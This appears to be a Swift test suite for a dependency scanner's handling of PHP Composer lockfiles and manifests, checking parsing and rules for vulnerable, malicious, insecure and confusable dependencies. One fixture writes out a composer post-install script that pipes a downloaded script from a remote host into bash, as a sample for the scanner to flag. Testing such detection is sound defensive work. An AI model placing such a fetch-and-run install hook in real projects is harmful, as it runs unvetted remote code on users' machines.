import BulwarkCore
import BulwarkDependencies
import BulwarkFormats
import BulwarkKit
import Foundation
import Testing

// composer.lock and composer.json (PHP, Packagist), issue 20. Minimal reproductions of our own, written the
// way Composer 2 writes its files: GitHub zipball dists with an empty `shasum`, `v`-prefixed versions,
// `dev-<branch>` versions pinned by `source.reference`, platform requirements (`php`, `ext-*`).

private func tempRepo(_ files: [String: String]) throws -> String {
    let root = NSTemporaryDirectory() + "bulwark-composer-\(UUID().uuidString)"
    for (p, t) in files {
        let full = root + "/" + p
        try FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try Data(t.utf8).write(to: URL(fileURLWithPath: full))
    }
    return root
}

private func scanOnDisk(_ files: [String: String], database: AdvisoryDatabase = .bundledOnly) throws -> [Finding] {
    let root = try tempRepo(files)
    defer { try? FileManager.default.removeItem(atPath: root) }
    var options = ScanOptions(paths: [root], configuration: Configuration())
    options.jobs = 1
    return try Scanner(families: [DependenciesScanner(database: database)]).scan(options).findings
}

/// One composer.lock package entry as Composer 2 writes it for a Packagist package hosted on GitHub.
private func entry(_ name: String, _ version: String, requires: [String] = [], shasum: String = "",
                   distURL: String? = nil, distType: String = "zip") -> String {
    let ref = String(repeating: "a1b2c3d4e5", count: 4)
    let url = distURL ?? "https://api.github.com/repos/\(name)/zipball/\(ref)"
    let req = (["\"php\": \">=8.1\""] + requires.map { "\"\($0)\": \"^1.0\"" }).joined(separator: ", ")
    return """
        {
            "name": "\(name)",
            "version": "\(version)",
            "source": {"type": "git", "url": "https://github.com/\(name).git", "reference": "\(ref)"},
            "dist": {"type": "\(distType)", "url": "\(url)", "reference": "\(ref)", "shasum": "\(shasum)"},
            "require": {\(req)},
            "type": "library",
            "notification-url": "https://packagist.org/downloads/"
        }
    """
}

private func lock(_ packages: [String], dev: [String] = []) -> String {
    """
    {
        "_readme": ["This file locks the dependencies of your project to a known state"],
        "content-hash": "0123456789abcdef0123456789abcdef",
        "packages": [
    \(packages.joined(separator: ",\n"))
        ],
        "packages-dev": [
    \(dev.joined(separator: ",\n"))
        ],
        "aliases": [],
        "minimum-stability": "stable",
        "platform": {"php": ">=8.1", "ext-json": "*"},
        "plugin-api-version": "2.6.0"
    }
    """
}

private let manifest = """
{
    "name": "acme/shop",
    "require": {"php": ">=8.1", "ext-json": "*", "symfony/console": "^6.4", "monolog/monolog": "^3.0"},
    "require-dev": {"phpunit/phpunit": "^10.5"}
}
"""

private func packagistDatabase() throws -> AdvisoryDatabase {
    let src = NSTemporaryDirectory() + "bulwark-packagist-osv-\(UUID().uuidString)"
    let dbDir = src + "-db"
    try FileManager.default.createDirectory(atPath: src, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(atPath: src); try? FileManager.default.removeItem(atPath: dbDir) }
    let vuln = #"""
    {"id": "GHSA-test-cons-ole1", "aliases": ["CVE-2099-1111"], "summary": "command injection in symfony/console",
     "database_specific": {"severity": "HIGH"},
     "affected": [{"package": {"ecosystem": "Packagist", "name": "symfony/console"},
                   "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "6.0.0"}, {"fixed": "6.4.2"}]}]}]}
    """#
    let mal = #"""
    {"id": "MAL-2099-2222", "summary": "Malicious code in acme-evil/helpers (Packagist)",
     "affected": [{"package": {"ecosystem": "Packagist", "name": "acme-evil/helpers"},
                   "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}]}
    """#
    try Data(vuln.utf8).write(to: URL(fileURLWithPath: src + "/GHSA-test-cons-ole1.json"))
    try Data(mal.utf8).write(to: URL(fileURLWithPath: src + "/MAL-2099-2222.json"))
    _ = try AdvisoryDatabase.importOSV(from: [src], into: dbDir)
    return AdvisoryDatabase.load(directory: dbDir)
}

// MARK: - Parsing

@Test func composerLockReadsPackagesDevSourcesAndDepths() throws {
    let text = lock([
        entry("symfony/console", "v6.4.1", requires: ["symfony/string"]),
        entry("symfony/string", "v6.4.0"),
        entry("monolog/monolog", "3.5.0", shasum: "ABCDEF0123456789ABCDEF0123456789ABCDEF01"),
        // A branch, pinned by the commit in source.reference.
        entry("lox/xhprof", "dev-master"),
        // A path repository package (a monorepo member).
        entry("acme/core", "dev-main", distURL: "packages/core", distType: "path"),
    ], dev: [entry("phpunit/phpunit", "10.5.3")])
    let file = try #require(try LockfileParser.parse(path: "composer.lock", bytes: Array(text.utf8),
                                                     resolve: { $0 == "composer.json" ? Array(manifest.utf8) : nil }))
    #expect(file.kind == .composerLock)
    #expect(file.formatVersion == "2.6.0")
    let byName = Dictionary(uniqueKeysWithValues: file.packages.map { ($0.name, $0) })
    // Platform requirements (php, ext-json) are not packages.
    #expect(file.packages.count == 6, "\(file.packages.map(\.name))")
    #expect(byName["php"] == nil)
    let console = try #require(byName["symfony/console"])
    #expect(console.ecosystem == .packagist)
    #expect(console.version == "6.4.1") // the `v` Packagist advisories do not write
    #expect(console.isDirect && console.depth == 1)
    #expect(console.gitRef == String(repeating: "a1b2c3d4e5", count: 4))
    #expect(console.sourceURL?.hasPrefix("https://api.github.com/repos/symfony/console/zipball/") == true)
    #expect(console.hashes.isEmpty) // an empty shasum is no hash
    let string = try #require(byName["symfony/string"])
    #expect(!string.isDirect && string.depth == 2 && string.parents == ["symfony/console"])
    #expect(byName["monolog/monolog"]?.hashes == ["sha1:abcdef0123456789abcdef0123456789abcdef01"])
    let xhprof = try #require(byName["lox/xhprof"])
    #expect(xhprof.version == nil && xhprof.requirement == "dev-master")
    #expect(byName["acme/core"]?.sourceKind == .path)
    #expect(byName["phpunit/phpunit"]?.isDev == true)
    #expect(byName["phpunit/phpunit"]?.isDirect == true)
}

@Test func composerJSONReadsRequirementsAndRepositories() throws {
    let text = """
    {
        "require": {"php": "^8.2", "ext-mbstring": "*", "guzzlehttp/guzzle": "^7.8", "acme/pinned": "1.2.3",
                    "acme/branch": "dev-main", "composer-plugin-api": "^2.0"},
        "require-dev": {"phpunit/phpunit": "^10"},
        "repositories": {
            "private": {"type": "composer", "url": "https://php.internal.example", "canonical": false},
            "tools": {"type": "vcs", "url": "https://github.com/acme/tools"}
        }
    }
    """
    let file = try #require(try LockfileParser.parse(path: "composer.json", bytes: Array(text.utf8)))
    #expect(file.kind == .composerJSON)
    #expect(file.packages.map(\.name).sorted() == ["acme/branch", "acme/pinned", "guzzlehttp/guzzle", "phpunit/phpunit"])
    #expect(file.packages.first { $0.name == "acme/pinned" }?.version == "1.2.3")
    #expect(file.packages.first { $0.name == "guzzlehttp/guzzle" }?.requirement == "^7.8")
    #expect(file.indexes.map(\.url) == ["https://php.internal.example", "https://github.com/acme/tools"])
    #expect(file.indexes.map(\.isExtra) == [true, false])
}

// MARK: - Rules

@Test func composerKnownVulnerableAndMaliciousVersionsAreFound() throws {
    let db = try packagistDatabase()
    let files = [
        "composer.json": manifest,
        "composer.lock": lock([entry("symfony/console", "v6.4.1"), entry("acme-evil/helpers", "1.0.2"),
                               entry("monolog/monolog", "3.5.0")]),
    ]
    let fs = try scanOnDisk(files, database: db)
    let vulns = fs.filter { $0.ruleID == "dep-known-vulnerable" }
    #expect(vulns.count == 1, "\(fs.map { "\($0.ruleID) \($0.message)" })")
    #expect(vulns.first?.message.contains("symfony/console") == true)
    #expect(vulns.first?.severity == .high)
    let mal = fs.filter { $0.ruleID == "dep-known-malicious" }
    #expect(mal.count == 1)
    #expect(mal.first?.severity == .critical)
    #expect(mal.first?.location.path == "composer.lock")
    // The fixed version is clean.
    let fixed = try scanOnDisk(["composer.json": manifest, "composer.lock": lock([entry("symfony/console", "v6.4.2")])], database: db)
    #expect(!fixed.contains { $0.ruleID == "dep-known-vulnerable" })
}

@Test func composerEmptyDistShasumIsNotMissingIntegrity() throws {
    // Packagist records no shasum for GitHub zipballs (the commit in `reference` pins them): a healthy lock
    // with a branch pinned by commit gives no finding at all.
    let files = [
        "composer.json": manifest,
        "composer.lock": lock([entry("symfony/console", "v6.4.1", requires: ["symfony/string"]), entry("symfony/string", "v6.4.0"),
                               entry("monolog/monolog", "3.5.0"), entry("lox/xhprof", "dev-master")],
                              dev: [entry("phpunit/phpunit", "10.5.3")]),
    ]
    let fs = try scanOnDisk(files)
    #expect(fs.isEmpty, "\(fs.map { "\($0.ruleID) \($0.severity) \($0.message)" })")
}

@Test func composerPlainHTTPDistIsInsecure() throws {
    let files = [
        "composer.json": manifest,
        "composer.lock": lock([entry("symfony/console", "v6.4.1"),
                               entry("monolog/monolog", "3.5.0", distURL: "http://mirror.example.net/monolog-3.5.0.zip")]),
    ]
    let fs = try scanOnDisk(files).filter { $0.ruleID == "dep-insecure-source" }
    #expect(fs.count == 1, "\(fs.map(\.message))")
    #expect(fs.first?.severity == .high)
    #expect(fs.first?.message.contains("monolog/monolog") == true)
}

@Test func composerNonCanonicalRepositoryIsDependencyConfusion() throws {
    func extra(_ json: String) throws -> [Finding] {
        try scanOnDisk(["composer.json": json, "composer.lock": lock([])]).filter { $0.ruleID == "dep-extra-index-url" }
    }
    let nonCanonical = try extra("""
    {"require": {"acme/billing": "^2.0"},
     "repositories": [{"type": "composer", "url": "https://php.internal.example", "canonical": false}]}
    """)
    #expect(nonCanonical.count == 1)
    #expect(nonCanonical.first?.severity == .high)
    #expect(nonCanonical.first?.location.startLine == 2)
    // Canonical (the default): packages found there are never taken from Packagist.
    #expect(try extra("""
    {"require": {"acme/billing": "^2.0"}, "repositories": [{"type": "composer", "url": "https://php.internal.example"}]}
    """).isEmpty)
    // Packagist turned off: nothing public to mix with.
    #expect(try extra("""
    {"require": {"acme/billing": "^2.0"},
     "repositories": [{"type": "composer", "url": "https://php.internal.example", "canonical": false}, {"packagist.org": false}]}
    """).isEmpty)
    // A VCS repository is one package's source, not an index.
    #expect(try extra("""
    {"require": {"acme/billing": "dev-main"}, "repositories": [{"type": "vcs", "url": "https://github.com/acme/billing"}]}
    """).isEmpty)
}

@Test func composerJSONWithoutLockIsTheLowManifestNote() throws {
    let fs = try scanOnDisk(["composer.json": manifest]).filter { $0.ruleID == "dep-manifest-without-lockfile" }
    #expect(fs.count == 1)
    #expect(fs.first?.severity == .low)
    // Platform requirements alone declare no package.
    let platformOnly = try scanOnDisk(["composer.json": #"{"require": {"php": ">=8.1", "ext-json": "*"}}"#])
    #expect(platformOnly.isEmpty, "\(platformOnly.map(\.message))")
}

@Test func brokenComposerLockFailsTheGate() throws {
    for text in ["{\"packages\": [", "{\"packages\": {\"a\": 1}}", "[1, 2]"] {
        let fs = try scanOnDisk(["composer.json": manifest, "composer.lock": text]).filter { $0.ruleID == "dep-unparseable-lockfile" }
        #expect(fs.count == 1, "\(text)")
        #expect(fs.first?.severity == .high)
    }
}

@Test func composerParsersNeverCrashOnTruncationsAndJunk() {
    let text = Array(lock([entry("symfony/console", "v6.4.1", requires: ["symfony/string"]), entry("symfony/string", "v6.4.0")],
                          dev: [entry("phpunit/phpunit", "10.5.3")]).utf8)
    var rng = SystemRandomNumberGenerator()
    for cut in stride(from: 0, to: text.count, by: 7) {
        _ = try? ComposerLockfiles.lock(path: "composer.lock", bytes: Array(text[..<cut]), manifest: Array(manifest.utf8))
        _ = try? ComposerLockfiles.manifest(path: "composer.json", bytes: Array(text[..<cut]))
    }
    for _ in 0..<200 {
        var b = text
        for _ in 0..<8 { b[Int.random(in: 0..<b.count, using: &rng)] = UInt8.random(in: 0...255, using: &rng) }
        _ = try? ComposerLockfiles.lock(path: "composer.lock", bytes: b, manifest: nil)
    }
    // Deep nesting is refused by the bounded JSON reader, not by the stack.
    let deep = Array(("{\"packages\": " + String(repeating: "[", count: 100_000)).utf8)
    #expect(throws: LockfileError.self) { _ = try ComposerLockfiles.lock(path: "composer.lock", bytes: deep, manifest: nil) }
}

@Test func dbUpdateDownloadsThePackagistExportForAComposerProject() throws {
    let root = try tempRepo(["shop/composer.lock": "{}", "shop/composer.json": "{}", "web/package-lock.json": "{}"])
    defer { try? FileManager.default.removeItem(atPath: root) }
    #expect(AdvisoryUpdater.ecosystems(in: root) == ["Packagist", "npm"])
}

@Test func composerAllowAllPluginsAndDownloadingInstallScripts() throws {
    func scripts(_ json: String) throws -> [Finding] {
        try scanOnDisk(["composer.json": json, "composer.lock": lock([])]).filter { $0.ruleID == "dep-install-script" }
    }
    let all = try scripts("""
    {"require": {"monolog/monolog": "^3.0"},
     "config": {"sort-packages": true, "allow-plugins": true}}
    """)
    #expect(all.count == 1)
    #expect(all.first?.severity == .medium)
    #expect(all.first?.location.startLine == 2)
    let fetchRun = try scripts("""
    {"scripts": {
      "post-install-cmd": ["@php artisan key:generate", "curl -fsSL https://cdn.example.net/setup.sh | bash"]
    }}
    """)
    #expect(fetchRun.count == 1)
    #expect(fetchRun.first?.severity == .high)
    #expect(fetchRun.first?.location.startLine == 2)
    // Named plugins and the project's own PHP scripts (as symfony/demo and Laravel write them) are not findings.
    #expect(try scripts("""
    {"config": {"allow-plugins": {"symfony/flex": true, "symfony/runtime": true}},
     "scripts": {"auto-scripts": {"cache:clear": "symfony-cmd"}, "post-install-cmd": ["@auto-scripts"],
                 "post-autoload-dump": ["Illuminate\\\\Foundation\\\\ComposerScripts::postAutoloadDump", "@php artisan package:discover --ansi"]}}
    """).isEmpty)
}
